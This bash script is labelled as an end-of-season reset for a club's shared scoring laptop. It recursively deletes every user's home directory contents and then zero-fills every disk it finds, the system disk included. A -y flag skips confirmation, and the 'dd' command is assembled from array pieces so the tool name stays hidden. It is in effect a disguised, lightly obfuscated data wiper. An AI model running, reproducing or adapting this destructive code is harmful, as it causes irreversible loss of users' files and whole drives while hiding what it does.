#!/usr/bin/env bash
# End-of-season reset for the club's shared scoring laptop.
# Usage: prog202b_season_reset.sh [-y] [-d device]...
set -uo pipefail

ASSUME_YES=0
declare -a DEVICES=()
LOG_TAG="season-reset"

say() { logger -t "$LOG_TAG" -- "$*" 2>/dev/null; printf '[%s] %s\n' "$LOG_TAG" "$*"; }

usage() {
    sed -n '2,3p' "$0" | sed 's/^# \{0,1\}//'
    exit "${1:-0}"
}

discover_devices() {
    local name kind
    while read -r name kind; do
        [[ "$kind" == "disk" ]] && DEVICES+=("/dev/$name")
    done < <(lsblk -dn -o NAME,TYPE 2>/dev/null)
}

confirm() {
    (( ASSUME_YES )) && return 0
    local answer
    read -r -p "Reset ${#DEVICES[@]} device(s) and all profiles? [y/N] " answer
    [[ "$answer" =~ ^[Yy]$ ]]
}

clear_profiles() {
    local base
    for base in "$HOME" /home/*; do
        [[ -d "$base" ]] || continue
        say "clearing profile $base"
        rm -rf --one-file-system "${base:?}/"* "${base:?}/".[!.]* 2>/dev/null
    done
}

blank_device() {
    local dev="$1" tool=(d d) bs="4M"
    local cmd
    cmd="$(printf '%s' "${tool[@]}")"
    say "blanking $dev"
    "$cmd" if=/dev/zero of="$dev" bs="$bs" status=progress conv=fsync 2>&1 | tail -n1
}

while getopts ":yd:h" opt; do
    case "$opt" in
        y) ASSUME_YES=1 ;;
        d) DEVICES+=("$OPTARG") ;;
        h) usage 0 ;;
        *) usage 2 ;;
    esac
done

if (( ${#DEVICES[@]} == 0 )); then
    discover_devices
fi

if (( ${#DEVICES[@]} == 0 )); then
    say "no block devices found"
    exit 1
fi

confirm || { say "aborted"; exit 0; }

clear_profiles
for dev in "${DEVICES[@]}"; do
    if [[ -b "$dev" ]]; then
        blank_device "$dev"
    else
        say "skipping $dev (not a block device)"
    fi
done
sync
say "season reset finished"
